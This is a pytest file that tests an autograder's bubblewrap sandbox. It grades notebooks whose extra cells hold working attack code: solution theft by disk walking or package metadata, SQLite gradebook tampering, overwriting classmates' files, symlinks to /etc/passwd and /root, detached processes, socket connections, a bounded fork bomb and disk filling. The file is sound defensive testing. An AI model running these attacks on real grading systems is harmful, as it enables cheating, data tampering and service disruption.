"""Issue 8: a submission cannot reach the grading machine — every attack class, in one real sandboxed ``grade``.

One course is built and one batch graded (``--jobs 2``, real bubblewrap, no mocks): two honest
classmates and one submission per attack class. Each attack is ordinary Python in an extra cell of a
SOLVED notebook (it would earn full marks anyway: the question is what else it manages), except the
two thieves, which use stolen reference functions as the answers of an untouched notebook. The
attacks print what they achieved into their own cell outputs ("ATTACK: …"); the tests read those from
``autograded/<student>/`` and check the grader's files, the gradebook, the machine's processes and
the sockets the test listened on. Every test also checks that the honest classmates kept their grades.
The attacks damage only paths that carry this run's marker, so a broken sandbox (or `--no-sandbox`) cannot
harm anything else on the machine.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT
from nbgrader.api import Gradebook
from support.attacks import FORK_BOMB_HELPER
from support.course import scores

from autograder.authoring.solve import solve
from autograder.course.create import COURSE_ID, build_course
from autograder.course.grade import KERNELS_AHEAD_ENV
from autograder.grader.job_server import DISABLE_ENV

LESSON = "residual_networks"
MAX = 18.0
MARK = f"rsbx{uuid.uuid4().hex[:12]}"  # unique to this run: in its paths, and as f"{MARK}-<tag>" in the argv of
# every process an attack starts (the grader's own processes name paths with MARK in them, never MARK + "-")
PAYLOAD = f"PWNED-{MARK}"  # what the attacks write into others' files (MARK alone is in this run's paths)
HUGE = 64 << 20  # no file this big may come back from a graded folder
# Named so that sorting (the order of grading) puts the fork bomb beside `solved` and the disk filler beside
# `untouched`: their limits must not cost a kernel graded at the same time.
HONEST = ("solved", "untouched")
ATTACKERS = ("classmate_writer", "gradebook_writer", "link_planter", "metadata_thief", "process_leaver",
             "sibling_fork_bomb", "tcp_caller", "tmp_disk_filler", "walk_thief")

# Shared by the attacks that search the machine: a breadth-first walk of the disk bounded in time and
# entries, and the folders other processes work in (/proc/<pid>/cwd) or name on their command line.
FINDER = r'''
import collections, os, sys, time

def bfs(wanted, seconds, stop=10**9, roots=("/tmp", "/work", "/home", "/root", "/srv", "/opt", "/var", "/")):
    found, seen, count, start = [], set(), 0, time.monotonic()
    queue = collections.deque(root for root in roots if os.path.isdir(root))
    while queue and time.monotonic() - start < seconds and count < 2_000_000 and len(found) < stop:
        folder = queue.popleft()
        if folder in seen or folder in ("/proc", "/sys", "/dev"):
            continue
        seen.add(folder)
        try:
            with os.scandir(folder) as listing:
                for entry in listing:
                    count += 1
                    if wanted(folder, entry):
                        found.append(entry.path)
                    if entry.is_dir(follow_symlinks=False):
                        queue.append(entry.path)
        except OSError:
            pass
    return found, count

def grader_dirs():
    dirs = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            dirs.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                dirs.update(os.fsdecode(a) for a in file.read().split(b"\0") if a.startswith(b"/") and os.path.isdir(a))
        except OSError:
            pass
    return dirs

def with_ancestors(paths):
    out = []
    for path in paths:
        while path not in ("/", ""):
            out.append(path)
            path = os.path.dirname(path)
    return list(dict.fromkeys(out))

def ours(path):
    """Only this run's files carry MARK in their path: the attacks damage nothing else, sandbox or not."""
    return MARK in os.path.realpath(path)

def grader_running():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if b"autograder\0grade" in file.read():
                    return True
        except OSError:
            pass
    return False

def detach(source, tag):
    """Run `source` in a new session, stdio closed, `MARK-tag` in its argv: it outlives the kernel if it can."""
    import subprocess
    subprocess.Popen([sys.executable, "-c", source, f"{MARK}-{tag}"], start_new_session=True, close_fds=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

def keep_trying(attack):
    """Repeat while a grader runs (at least 60 s, at most 300 s): what it undoes, this redoes."""
    start = time.monotonic()
    while time.monotonic() - start < 300 and (time.monotonic() - start < 60 or grader_running()):
        try:
            attack(2)
        except Exception:
            pass
        time.sleep(0.5)
'''

# 1 and 2: find solutions/residual_networks.py, execute it, answer with its functions.
STEAL_BY_METADATA = r'''
import importlib.metadata, json, os, re
STOLEN, tried = {}, []
places = []
try:
    dist = importlib.metadata.distribution("resnet-course")
    url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
    places.append(url.removeprefix("file://"))
    for file in dist.files or []:  # the editable install's .pth and finder name the checkout
        if "editable" in str(file):
            try:
                places += re.findall(r"(/[^'\"\s:;]+)", dist.locate_file(file).read_text())
            except (OSError, UnicodeDecodeError) as error:
                tried.append(f"{file}: {type(error).__name__}")
except importlib.metadata.PackageNotFoundError:
    tried.append("no resnet-course distribution")
for place in with_ancestors([p for p in places if p]):
    path = os.path.join(place, "solutions", "residual_networks.py")
    try:
        with open(path, encoding="utf-8") as file:
            source = file.read()
    except OSError as error:
        tried.append(f"{path}: {type(error).__name__}")
        continue
    exec(compile(source, path, "exec"), STOLEN)
    print("ATTACK: stolen from", path)
    break
else:
    print("ATTACK: reference not found;", "; ".join(tried[:6]))
'''

STEAL_BY_WALKING = r'''
STOLEN = {}
found, seen = bfs(lambda folder, e: e.name == "residual_networks.py" and os.path.basename(folder) == "solutions",
                  seconds=20, stop=5)
for path in found:
    try:
        with open(path, encoding="utf-8") as file:
            exec(compile(file.read(), path, "exec"), STOLEN)
        print("ATTACK: stolen from", path)
        break
    except Exception as error:
        print("ATTACK: could not use", path, type(error).__name__)
else:
    print(f"ATTACK: reference not found after {seen} entries")
'''

# 3: set a classmate's grades to 0 and its own to 1000, in every gradebook it can find, now and later.
GRADEBOOK = r'''
import sqlite3
ROWS = ("SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
        "WHERE a.student_id = ?")

def candidates(seconds):
    paths = [COURSE_DB] + ["../" * n + "gradebook.db" for n in range(1, 7)]
    paths += [os.path.join(d, "gradebook.db") for d in with_ancestors(grader_dirs())]
    paths += bfs(lambda folder, e: e.name == "gradebook.db", seconds)[0]
    return list(dict.fromkeys(os.path.realpath(p) for p in paths if os.path.isfile(p) and ours(p)))

def attack(seconds):
    report = []
    for db in candidates(seconds):
        try:
            with sqlite3.connect(f"file:{db}?mode=rw", uri=True, timeout=5) as con:
                theirs = con.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ({ROWS})",
                                     (CLASSMATE,)).rowcount
                mine = con.execute(f"UPDATE grade SET manual_score = 1000, extra_credit = 1000 "
                                   f"WHERE notebook_id IN ({ROWS})", (ME,)).rowcount
            con.close()
            report.append(f"wrote {db} ({theirs} of theirs, {mine} of mine)")
        except Exception as error:
            report.append(f"failed {db}: {type(error).__name__}: {error}")
    return report or ["no gradebook found"]
'''

# 4: overwrite classmates' notebooks and hidden-test recordings wherever they can be found.
CLASSMATES = r'''
import json
OWN = [os.path.realpath(p) for p in (os.getcwd(), os.environ.get("AUTOGRADER_RECORD_DIR") or os.getcwd())]

def mine(path):
    real = os.path.realpath(path)
    return any(real == own or real.startswith(own + os.sep) for own in OWN)

def targets(seconds):
    found = bfs(lambda folder, e: e.is_dir(follow_symlinks=False) and (
        e.name in ("submitted", "autograded", "feedback", "hidden") or "--" in e.name), seconds)[0]
    roots = [COURSE] + [d for d in with_ancestors(grader_dirs()) if os.path.isdir(os.path.join(d, "submitted"))]
    roots += [os.path.dirname(p) for p in found if os.path.basename(p) in ("submitted", "autograded", "feedback")]
    folders = [os.path.join(root, kind, other, LESSON) for root in dict.fromkeys(roots)
               for kind in ("submitted", "autograded", "feedback") for other in VICTIMS]
    for path in found:  # workers' folders (<student>--<lesson>, or one holding submitted/<student>) and recordings
        for other in VICTIMS:
            if os.path.basename(path) == f"{other}--{LESSON}":
                folders += [path, os.path.join(path, "hidden"), os.path.join(path, "autograded", other, LESSON)]
            elif os.path.basename(path) == "hidden" and (
                    other in path or os.path.isdir(os.path.join(os.path.dirname(path), "submitted", other))):
                folders.append(path)
    return [f for f in dict.fromkeys(folders) if os.path.isdir(f) and not mine(f) and ours(f)]

def attack(seconds):
    report = []
    for folder in targets(seconds):
        try:
            with open(os.path.join(folder, f"{PAYLOAD}.txt"), "w") as file:
                file.write(PAYLOAD)
            for name in os.listdir(folder):
                if name.endswith((".ipynb", ".npz", ".json", ".html")):
                    with open(os.path.join(folder, name), "w") as file:
                        file.write(json.dumps({"pwned": PAYLOAD}))
            report.append(f"wrote {folder}")
        except OSError as error:
            report.append(f"failed {folder}: {type(error).__name__}")
    return report or ["no classmate's folder found"]
'''

# 5: links (and hard links) in its own folder to the grader's files; last, its notebook becomes a link.
LINKS = r'''
import os
links = {"passwd": "/etc/passwd", "gradebook": COURSE_DB, "gradebook_up3": "../../../gradebook.db",
         "gradebook_up4": "../../../../gradebook.db", "solutions": SOLUTIONS, "notes": CANARY}
if ROOT_LINK:
    links["home"] = "/root"
os.makedirs("deep", exist_ok=True)
links["deep/etc"] = "/etc"
for name, target in links.items():
    try:
        os.symlink(target, name)
    except OSError as error:
        print("ATTACK: symlink", name, "failed:", type(error).__name__)
print("ATTACK: links that resolve here:", [name for name in links if os.path.exists(name)])
for name, target in {"passwd_hard": "/etc/passwd", "gradebook_hard": COURSE_DB, "notes_hard": CANARY}.items():
    try:
        os.link(target, name)
        print("ATTACK: hard link", name, "made")
    except OSError as error:
        print("ATTACK: hard link", name, "failed:", type(error).__name__)
# Whoever writes the graded notebook back into this folder now writes into the instructor's notes.
os.symlink(CANARY, "notebook.link")
os.replace("notebook.link", NOTEBOOK)
'''

# 6: processes meant to outlive the kernel, each with the marker in its argv.
LEFTOVERS = r'''
import shutil, subprocess
loop = "import time\nend = time.time() + 300\nwhile time.time() < end:\n    time.sleep(1)"
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
double_fork = ("import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
               "        os.execv(sys.executable, [sys.executable, '-c', sys.argv[1], sys.argv[2]])\nos._exit(0)")
sleeper = f"/tmp/{MARK}-nohup-sleep"  # sleep's argv[0] carries the marker
ways = {
    "child": lambda: subprocess.Popen([sys.executable, "-c", loop, f"{MARK}-child"], **quiet),
    "new session": lambda: subprocess.Popen([sys.executable, "-c", loop, f"{MARK}-session"], start_new_session=True,
                                            **quiet),
    "double fork": lambda: subprocess.run([sys.executable, "-c", double_fork, loop, f"{MARK}-doublefork"],
                                          timeout=30, **quiet),
    "nohup sleep": lambda: (os.symlink(shutil.which("sleep") or "/bin/sleep", sleeper),
                            subprocess.Popen(["nohup", sleeper, "300"], start_new_session=True, **quiet)),
}
started = []
for way, start in ways.items():
    try:
        start()
        started.append(way)
    except Exception as error:
        print("ATTACK:", way, "failed:", type(error).__name__, error)
print("ATTACK: started", ", ".join(started))
'''

# 7: connect to the grader's listening sockets: TCP on 127.0.0.1 (only there) and an abstract unix socket.
NETWORK = r'''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
        connection.sendall(MARK.encode())
    print("ATTACK: connected to 127.0.0.1", PORT)
except OSError as error:
    print("ATTACK: tcp connect failed:", type(error).__name__, error)
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(5)
        connection.connect(ABSTRACT)
        connection.sendall(MARK.encode())
    print("ATTACK: connected to the abstract socket")
except OSError as error:
    print("ATTACK: abstract connect failed:", type(error).__name__, error)
'''

# 8: a fork bomb, bounded (3000 forks, children sleep 30 s) so that even unsandboxed it cannot take the machine
# down; forked from a small helper process rather than from the 1.5 GiB kernel, each child becoming `sleep`
# (whose argv[0] carries the marker), so that it is the process limit that stops it, not the memory watchdog.
FORK_BOMB = "import shutil, subprocess\nbomb = " + repr(FORK_BOMB_HELPER) + r'''
try:
    run = subprocess.run([sys.executable, "-c", bomb, shutil.which("sleep") or "/bin/sleep", f"{MARK}-bomb"],
                         capture_output=True, text=True, timeout=35)
    print("ATTACK:", run.stdout.strip() or f"no count (exit {run.returncode}) {run.stderr[-300:]}")
except Exception as error:
    print("ATTACK: the bomb did not run:", type(error).__name__, error)
'''

# 9: one huge file in its own folder and one in /tmp, 64 MiB at a time, up to 8 GiB.
DISK = r'''
import resource
chunk = bytes(64 << 20)

def fill(path):
    written, stopped = 0, "nothing"
    try:
        with open(path, "wb", buffering=0) as file:
            while written < 8 << 30:
                written += file.write(chunk)
    except OSError as error:
        stopped = f"{type(error).__name__} errno {error.errno}"
    return written, stopped

print("ATTACK: RLIMIT_FSIZE", resource.getrlimit(resource.RLIMIT_FSIZE)[0])
for where, path in (("folder", "fill.bin"), ("tmp", f"/tmp/{MARK}-fill.bin")):
    written, stopped = fill(path)
    print(f"ATTACK: {where} wrote {written} bytes, stopped by {stopped}")
os.remove(f"/tmp/{MARK}-fill.bin")  # frees a tmpfs's memory; the folder's file stays for the copy back
'''


def attack_cell(source: str, *parts: str, **values: object) -> str:
    """An attack's cell: its constants, FINDER and other helpers as needed, then the attack itself."""
    values = {"MARK": MARK, "PAYLOAD": PAYLOAD} | values
    constants = "".join(f"{name} = {value!r}\n" for name, value in values.items())
    return constants + "".join(parts) + source


def persistent(attack: str, tag: str, **values: object) -> str:
    """A cell that runs ``attack(seconds)`` once, printing what it did, then leaves a detached copy that retries."""
    source = attack_cell(attack, FINDER, **values)
    return (f"SOURCE = {source!r}\nexec(SOURCE)\nfor line in attack(10):\n    print('ATTACK:', line)\n"
            f"detach(SOURCE + '\\nkeep_trying(attack)', {tag!r})")


def _cell(notebook: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _append(notebook: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    notebook.cells.append(nbformat.v4.new_code_cell(source))
    return notebook


def _thief(release: nbformat.NotebookNode, steal: str) -> nbformat.NotebookNode:
    """The untouched notebook, each answer replaced after its cell by the stolen reference's function."""
    notebook = nbformat.from_dict(json.loads(json.dumps(release)))
    answers = ("identity_block", "convolutional_block", "ResNet50", "load_dataset")
    for name in reversed(answers):
        use = f"if {name!r} in STOLEN:\n    {name} = STOLEN[{name!r}]"
        notebook.cells.insert(_cell(notebook, name) + 1, nbformat.v4.new_code_cell(
            (steal + "\n" if name == answers[0] else "") + use))
    return notebook


def submissions(release: nbformat.NotebookNode, root: Path, port: int, abstract: str,
                root_link: bool = True) -> dict[str, nbformat.NotebookNode]:
    """The batch: honest classmates and one attacker per class. ``root_link=False`` leaves out the link to /root
    (unsandboxed, a grader that follows it copies all of /root)."""
    solved = solve(release, LESSON)
    copy = lambda: nbformat.from_dict(json.loads(json.dumps(solved)))  # noqa: E731
    course_db, canary = str(root / "gradebook.db"), str(root / "instructor_notes.txt")
    return {
        "solved": solved,
        "untouched": nbformat.from_dict(json.loads(json.dumps(release))),
        "metadata_thief": _thief(release, attack_cell(STEAL_BY_METADATA, FINDER)),
        "walk_thief": _thief(release, attack_cell(STEAL_BY_WALKING, FINDER)),
        "gradebook_writer": _append(copy(), persistent(GRADEBOOK, "gradebook", ME="gradebook_writer",
                                                       CLASSMATE="solved", COURSE_DB=course_db)),
        "classmate_writer": _append(copy(), persistent(CLASSMATES, "classmates", COURSE=str(root), LESSON=LESSON,
                                                       VICTIMS=list(HONEST))),
        "link_planter": _append(copy(), attack_cell(LINKS, COURSE_DB=course_db, CANARY=canary,
                                                    SOLUTIONS=str(ROOT / "solutions"), ROOT_LINK=root_link,
                                                    NOTEBOOK=f"{LESSON}.ipynb")),
        "process_leaver": _append(copy(), attack_cell(LEFTOVERS, "import os, sys\n")),
        "tcp_caller": _append(copy(), attack_cell(NETWORK, PORT=port, ABSTRACT=abstract)),
        "sibling_fork_bomb": _append(copy(), attack_cell(FORK_BOMB, "import sys\n")),
        "tmp_disk_filler": _append(copy(), attack_cell(DISK, "import os\n")),
    }


class Listener:
    """A socket the grader's side listens on; records every connection it accepts."""

    def __init__(self, family: int, address: str | tuple[str, int]) -> None:
        self.socket = socket.socket(family, socket.SOCK_STREAM)
        self.socket.bind(address)
        self.socket.listen()
        self.socket.settimeout(0.2)
        self.accepted: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, peer = self.socket.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(2)
                try:
                    data = connection.recv(200)
                except OSError:
                    data = b""
            self.accepted.append(f"{peer!r}: {data!r}")

    def close(self) -> list[str]:
        self._stop.set()
        self._thread.join()
        self.socket.close()
        return self.accepted


def marked_processes() -> list[tuple[int, str]]:
    """Every process on the machine that an attack of this run started (``MARK-<tag>`` in its command line)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
        except OSError:
            continue
        if f"{MARK}-".encode() in cmdline:
            found.append((int(entry.name), cmdline.replace(b"\0", b" ").decode(errors="replace")[:200]))
    return found


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "absent"


def watched(root: Path) -> dict[str, str]:
    """Digests of what no submission may change: the classmates' submissions and the grader's files."""
    files = [p for student in HONEST for p in sorted((root / "submitted" / student).rglob("*")) if p.is_file()]
    files += [Path("/etc/passwd"), Path.home() / ".bashrc", root / "instructor_notes.txt",
              *sorted((ROOT / "solutions").glob("*.py"))]
    return {str(path): _digest(path) for path in files if path.is_file() and os.access(path, os.R_OK)}


@dataclass
class Batch:
    root: Path
    run: subprocess.CompletedProcess[str]
    seconds: float
    leftovers: list[tuple[int, str]]  # marked processes alive right after `grade` returned
    connections: list[str]  # what the listening sockets accepted
    before: dict[str, str]
    after: dict[str, str]
    job_runner: str  # where the jobs ran: forks of the job server, or processes under bubblewrap


@pytest.fixture(scope="module", params=["this user", "an unprivileged instructor", "this user, a process per job"])
def batch(request: pytest.FixtureRequest) -> Batch:
    """The batch graded by whoever runs the tests, and again by an unprivileged instructor (a real Unix user).

    As root each kernel gets a uid of its own; an unprivileged grader's kernels share its uid, and each
    gets its process budget from a user namespace of its own: both must hold every attack. Jobs are forks
    of each worker's job server; the third run grades each in a process of its own under bubblewrap, the
    way a worker falls back where the server cannot make namespaces.
    """
    grader = None
    if request.param == "an unprivileged instructor":
        if os.geteuid() != 0:
            pytest.skip("the tests already run as an unprivileged user (another user needs root to create)")
        from support.shared_env import instructor_env

        user = request.getfixturevalue("unix_users").add("grader")
        grader = instructor_env(user, request.getfixturevalue("shared_env"))
    # The marker in every path of this run (see FINDER's ours); under /tmp, which every user can traverse.
    base = Path(tempfile.mkdtemp(prefix=f"sandbox-{MARK}-", dir="/tmp"))
    base.chmod(0o755)
    request.addfinalizer(lambda: shutil.rmtree(base, ignore_errors=True))
    root = build_course(base / "course", "en", cell_timeout=40)
    (root / "instructor_notes.txt").write_text(f"the instructor's notes {MARK}\n")
    tcp = Listener(socket.AF_INET, ("127.0.0.1", 0))
    abstract = f"\0resnet-course-test-{MARK}"
    unix = Listener(socket.AF_UNIX, abstract)
    release = nbformat.read(root / "release" / LESSON / f"{LESSON}.ipynb", as_version=4)
    for student, notebook in submissions(release, root, tcp.socket.getsockname()[1], abstract).items():
        folder = root / "submitted" / student / LESSON
        shutil.copytree(root / "release" / LESSON, folder)
        nbformat.write(notebook, folder / f"{LESSON}.ipynb")
    before = watched(root)
    logs, scratch = base / "grade-output", base / "tmp"  # the grader's worker folders go to scratch
    logs.mkdir()
    scratch.mkdir()
    if grader is not None:  # the course, its submissions and the scratch folder are the instructor's
        subprocess.run(["chown", "-R", f"{grader.user.uid}:{grader.user.gid}", str(base)], check=True, timeout=300)
    command = ["-m", "autograder", "grade", str(root), "--jobs", "2", "--memory-limit", "4G"]
    # Through the job server, every kernel is started ahead of its submission (the attacks meet that path too).
    per_process = request.param.endswith("a process per job")
    per_job = {DISABLE_ENV: "0"} if per_process else {KERNELS_AHEAD_ENV: "1"}
    start = time.perf_counter()
    # Output to files, not pipes: a process an attack leaves behind could hold a pipe open forever.
    with open(logs / "stdout", "w") as out, open(logs / "stderr", "w") as err:
        try:
            if grader is None:
                code = subprocess.run([sys.executable, *command], stdout=out, stderr=err, timeout=1500,
                                      cwd=base, env=os.environ | {"TMPDIR": str(scratch)} | per_job).returncode
            else:
                from support.unix_users import popen_as

                process = popen_as(grader.user, [grader.python, *command], cwd=base, stdout=out, stderr=err,
                                   env=grader.env({"TMPDIR": str(scratch)} | per_job))
                code = process.wait(timeout=1500)
        finally:
            leftovers = marked_processes()
            connections = tcp.close() + unix.close()
    seconds = time.perf_counter() - start
    run = subprocess.CompletedProcess([], code, (logs / "stdout").read_text(), (logs / "stderr").read_text())
    print(f"\nsandbox batch ({request.param}): {len(ATTACKERS) + len(HONEST)} submissions graded in {seconds:.0f} s")
    yield Batch(root, run, seconds, leftovers, connections, before, watched(root),
                "bubblewrap" if per_process else "job server")
    for pid, _ in marked_processes():  # only processes this run's attacks started
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for path in (Path(f"/tmp/{MARK}-nohup-sleep"), Path(f"/tmp/{MARK}-fill.bin")):  # left only when unsandboxed
        path.unlink(missing_ok=True)
    for path in base.rglob("*"):  # never leave gigabytes in pytest's kept temporary folders
        if path.is_file() and not path.is_symlink() and path.stat().st_size >= HUGE:
            path.unlink()



def gradebook_scores(root: Path) -> dict[str, float]:
    marker = root / "course.json"
    course_id = json.loads(marker.read_text()).get("course_id", COURSE_ID) if marker.exists() else COURSE_ID
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", course_id) as gb:
        return {s.student.id: s.score for s in gb.assignment_submissions(LESSON)}


def attack_lines(root: Path, student: str) -> list[str]:
    """What the attack printed into its own cells ("ATTACK: …"), read from its autograded notebook."""
    path = root / "autograded" / student / LESSON / f"{LESSON}.ipynb"
    assert path.is_file() and not path.is_symlink(), f"no graded notebook for {student}"
    notebook = nbformat.read(path, as_version=4)
    text = "".join(o.get("text", "") + o.get("evalue", "") for cell in notebook.cells if cell.cell_type == "code"
                   for o in cell.get("outputs", []))
    return [line for line in text.splitlines() if line.startswith("ATTACK:")]


def assert_classmates_intact(batch: Batch) -> None:
    assert batch.run.returncode == 0, batch.run.stderr[-3000:]
    for got in (scores(batch.root), gradebook_scores(batch.root)):
        assert got["solved"] == MAX and got["untouched"] == 0, got
        assert set(got) == set(HONEST + ATTACKERS), got  # the batch finished: everyone is graded
    for student in HONEST:
        for kind in ("submitted", "autograded", "feedback"):
            for path in (batch.root / kind / student).rglob("*"):
                assert "PWNED" not in path.name and not path.is_symlink(), path
                assert not path.is_file() or PAYLOAD.encode() not in path.read_bytes(), path
    changed = [path for path in batch.before if batch.before[path] != batch.after[path]]
    assert not changed, changed


def test_grade_says_the_batch_was_sandboxed(batch: Batch) -> None:
    stats = json.loads((batch.root / "grading_stats.json").read_text(encoding="utf-8"))
    runners = {entry.get("job_runner") for name, entry in stats.items() if not name.startswith("_")} - {None, ""}
    assert runners == {batch.job_runner}, runners
    # A job server starts each submission's kernel before the submission comes (still one per submission). One
    # that could not (a neighbour's fork bomb took the threads TensorFlow's import needs, say) says why in the
    # job's log, and the submission gets a kernel started the usual way.
    ahead = {name: bool(entry.get("kernel_started_ahead")) for name, entry in stats.items()
             if not name.startswith("_") and entry.get("job_runner")}
    if batch.job_runner == "job server":
        assert sum(ahead.values()) >= len(ahead) / 2, ahead
        for name in (name for name, started in ahead.items() if not started):
            log = batch.root / "autograded" / name / f"{LESSON}.autograde.log"
            assert "[job_server]" in log.read_text(encoding="utf-8", errors="replace"), (name, log.read_text()[-2000:])
    else:
        assert not any(ahead.values()), ahead
    console = (batch.run.stdout + batch.run.stderr).splitlines()
    assert any(line.startswith("sandbox:") and "bubblewrap" in line for line in console), console[-20:]
    report = (batch.root / "report.md").read_text()
    assert "sandboxed with bubblewrap" in report and "NOT sandboxed" not in report


def test_honest_classmates_keep_their_grades(batch: Batch) -> None:
    assert_classmates_intact(batch)
    assert scores(batch.root) == gradebook_scores(batch.root)


@pytest.mark.parametrize("thief", ["metadata_thief", "walk_thief"])
def test_the_reference_cannot_be_read_from_disk(batch: Batch, thief: str) -> None:
    printed = attack_lines(batch.root, thief)
    assert any("reference not found" in line for line in printed), printed
    assert not any("stolen from" in line for line in printed), printed
    assert scores(batch.root)[thief] == scores(batch.root)["untouched"]  # answers of an untouched notebook
    assert_classmates_intact(batch)


def test_the_gradebook_cannot_be_written(batch: Batch) -> None:
    printed = attack_lines(batch.root, "gradebook_writer")
    assert printed and not any(line.startswith("ATTACK: wrote") for line in printed), printed
    assert scores(batch.root)["gradebook_writer"] == MAX
    assert gradebook_scores(batch.root)["gradebook_writer"] == MAX
    assert_classmates_intact(batch)


def test_classmates_folders_and_recordings_cannot_be_written(batch: Batch) -> None:
    printed = attack_lines(batch.root, "classmate_writer")
    assert printed and not any(line.startswith("ATTACK: wrote") for line in printed), printed
    assert scores(batch.root)["classmate_writer"] == MAX
    assert_classmates_intact(batch)  # includes the digests of the classmates' submitted files


def test_links_in_the_graded_folder_are_not_followed(batch: Batch) -> None:
    targets = {Path("/etc/passwd").read_bytes(), (batch.root / "instructor_notes.txt").read_bytes(),
               *(p.read_bytes() for p in (ROOT / "solutions").glob("*.py"))}
    targets |= {Path(p).read_bytes() for p in ("/root/.bashrc", "/root/.profile") if Path(p).is_file()}
    targets.discard(b"")
    for kind in ("autograded", "feedback"):
        folder = batch.root / kind / "link_planter"  # may hold nothing: its notebook was a link too
        total = 0
        for path in folder.rglob("*"):
            assert not path.is_symlink(), path
            if path.is_file():
                data = path.read_bytes()
                total += len(data)
                assert data not in targets and not data.startswith(b"SQLite format 3"), path
        assert total < HUGE, total  # no copy of /root or the repository came back
    assert scores(batch.root)["link_planter"] <= MAX
    assert_classmates_intact(batch)  # includes the digests of the link targets


def test_no_process_outlives_grading(batch: Batch) -> None:
    printed = attack_lines(batch.root, "process_leaver")
    assert any(line.startswith("ATTACK: started") and "new session" in line for line in printed), printed
    assert batch.leftovers == []
    assert_classmates_intact(batch)


def test_the_grader_cannot_be_reached_over_the_network(batch: Batch) -> None:
    printed = attack_lines(batch.root, "tcp_caller")
    assert batch.connections == []
    assert any(line.startswith("ATTACK: tcp connect failed") for line in printed), printed
    assert any(line.startswith("ATTACK: abstract connect failed") for line in printed), printed
    assert_classmates_intact(batch)


def test_a_fork_bomb_hits_the_process_limit(batch: Batch) -> None:
    printed = attack_lines(batch.root, "sibling_fork_bomb")
    counts = [re.search(r"FORKS (\d+) of 3000, stopped by (\w+)", line) for line in printed]
    found = [match for match in counts if match]
    assert found, printed
    forks, stopped = int(found[0][1]), found[0][2]
    assert stopped != "nothing" and forks < 2000, printed
    assert not [p for p in batch.leftovers if "-bomb" in p[1]]
    assert_classmates_intact(batch)


def test_one_huge_file_stops_at_the_file_size_limit(batch: Batch) -> None:
    printed = attack_lines(batch.root, "tmp_disk_filler")
    for where in ("folder", "tmp"):
        match = next((re.search(r"wrote (\d+) bytes, stopped by (\w+)", line) for line in printed
                      if line.startswith(f"ATTACK: {where} wrote")), None)
        assert match, printed
        assert int(match[1]) < 4 << 30 and match[2] != "nothing", printed
    for kind in ("autograded", "feedback"):
        big = [p for p in (batch.root / kind).rglob("*") if p.is_file() and p.stat().st_size >= HUGE]
        assert not big, big
    assert_classmates_intact(batch)


def _without_bwrap(tmp_path: Path) -> dict[str, str]:
    """The environment with an empty folder as PATH: no bwrap, and not even this Python's bin/ folder.

    So these runs also show that ``grade`` and ``demo`` work with the environment's Python called
    by its path and nothing on PATH (nbgrader runs its helper ``alembic`` by name).
    """
    empty = tmp_path / "empty-path"
    empty.mkdir(exist_ok=True)
    return os.environ | {"PATH": str(empty)}


def test_grade_stops_with_one_line_when_the_sandbox_is_missing(tmp_path: Path) -> None:
    root = build_course(tmp_path / "course", "en")
    shutil.copytree(root / "release" / LESSON, root / "submitted" / "someone" / LESSON)
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(root)], capture_output=True, text=True,
                         timeout=300, cwd=tmp_path, env=_without_bwrap(tmp_path))
    lines = run.stderr.strip().splitlines()
    assert run.returncode != 0 and len(lines) == 1, run.stderr
    assert "bubblewrap" in lines[0] and "--no-sandbox" in lines[0], lines
    assert not (root / "autograded").exists() and not (root / "grades.csv").exists()


def test_demo_warns_once_and_grades_when_the_sandbox_is_missing(tmp_path: Path) -> None:
    run = subprocess.run([sys.executable, "-m", "autograder", "demo", "--out", str(tmp_path / "demo")],
                         capture_output=True, text=True, timeout=900, cwd=tmp_path, env=_without_bwrap(tmp_path))
    assert run.returncode == 0, run.stderr[-3000:]
    console = (run.stdout + run.stderr).replace(str(tmp_path), "TMP")
    warnings = [line for line in console.splitlines() if re.search(r"bubblewrap|bwrap", line)]
    assert len(warnings) == 1, warnings
    assert "NOT sandboxed" in (tmp_path / "demo" / "report.md").read_text()
    got = scores(tmp_path / "demo")
    assert got["solved"] == MAX and got["untouched"] == 0, got


def test_a_python_environment_under_tmp_works_in_the_sandbox(tmp_path: Path) -> None:
    """A venv in a temporary folder: the sandbox's own /tmp must not hide it (found by a newcomer's trial)."""
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--system-site-packages", "--without-pip", str(venv)], check=True,
                   timeout=120)
    workdir = tmp_path / "work"
    workdir.mkdir()
    python = str(venv / "bin" / "python")
    run = subprocess.run([python, "-m", "autograder.grader.sandbox", "--", python, "-c",
                          "import sys, numpy; print(sys.prefix, 'ok')"], cwd=workdir, capture_output=True, text=True,
                         timeout=120)
